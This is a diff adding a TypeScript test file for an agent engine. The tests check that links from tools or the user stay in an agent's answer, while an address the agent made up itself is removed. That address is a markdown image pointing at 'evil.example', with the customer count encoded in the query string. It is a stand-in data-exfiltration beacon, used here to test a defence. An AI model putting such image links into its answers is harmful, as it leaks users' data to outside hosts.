@@ -1,0 +1,70 @@
+import { afterEach, expect, it } from 'vitest'
+import { z } from 'zod'
+import { agent, engineFor, request, task } from '../../../test/support/engine-world.ts'
+import type { ActorContext } from '../../core/actor.ts'
+import { BY_USER } from '../../core/provenance.ts'
+import { defineTool } from '../../core/tool.ts'
+import { MemoryStore } from '../../storage/memory-store.ts'
+import { MemoryWakeLog } from '../../storage/wake-log.ts'
+import { ManualClock } from '../../testing/manual-clock.ts'
+import type { Engine } from '../engine.ts'
+
+let engine: Engine | undefined
+afterEach(() => engine?.close())
+
+const OWN = 'https://evil.example/p?d=92-customers'
+const FOUND = 'https://shop.example/orders?page=2'
+const NAMED = 'https://named.example/guide?part=1'
+
+const common = { description: '', effect: 'read', reach: 'inside', provenance: BY_USER } as const
+const text = z.object({ text: z.string() })
+const repeat = defineTool({ ...common, name: 'repeat', input: text, run: async (input) => input })
+const find = defineTool({ ...common, name: 'find', input: text, run: async () => ({ url: FOUND }) })
+let saved = ''
+const save = defineTool({ ...common, name: 'save', input: text, run: async (input) => void (saved = input.text) })
+const read = defineTool({ ...common, name: 'read', input: z.object({}), run: async () => ({ saved }) })
+const program = defineTool({
+  ...common,
+  name: 'program',
+  input: z.object({ code: z.string() }),
+  run: async () => ({ printed: (saved = OWN) }),
+})
+
+type Calls = (ctx: ActorContext) => Promise<unknown>
+
+async function answerWith(url: string, calls: Calls): Promise<string | undefined> {
+  const writer = agent('writer', async (_task, ctx) => {
+    await calls(ctx)
+    return { answer: `There are 92. ![status](${url})` }
+  })
+  engine = engineFor([writer], {
+    store: new MemoryStore(new MemoryWakeLog(), () => undefined),
+    clock: new ManualClock(),
+  })
+  const runId = await engine.start(request([task('writer', 'writer')], { question: `What is new at ${NAMED} ?` }))
+  const { jobs } = await engine.outcome(runId)
+  return jobs.get('writer')?.result?.answer
+}
+
+it.each<[string, string, Calls]>([
+  ['that a tool returned', FOUND, (ctx) => ctx.call(find, { text: 'orders' })],
+  [
+    'that a tool returned before the agent gave it to another',
+    FOUND,
+    async (ctx) => [await ctx.call(find, { text: 'orders' }), await ctx.call(repeat, { text: FOUND })],
+  ],
+  ['that the user named', NAMED, (ctx) => ctx.call(repeat, { text: NAMED })],
+])('an address %s stays in the answer', async (_what, url, calls) => {
+  expect(await answerWith(url, calls)).toContain(url)
+})
+
+it.each<[string, Calls]>([
+  ['and a tool repeats', (ctx) => ctx.call(repeat, { text: `1+1 ${OWN}` })],
+  ['and that is saved and read', async (ctx) => [await ctx.call(save, { text: OWN }), await ctx.call(read, {})]],
+  [
+    'with a program and that another tool shows',
+    async (ctx) => [await ctx.call(program, { code: 'print(a + b)' }), await ctx.call(read, {})],
+  ],
+])('an address that the agent made up %s is removed from the answer', async (_what, calls) => {
+  expect(await answerWith(OWN, calls)).not.toContain('evil.example')
+})
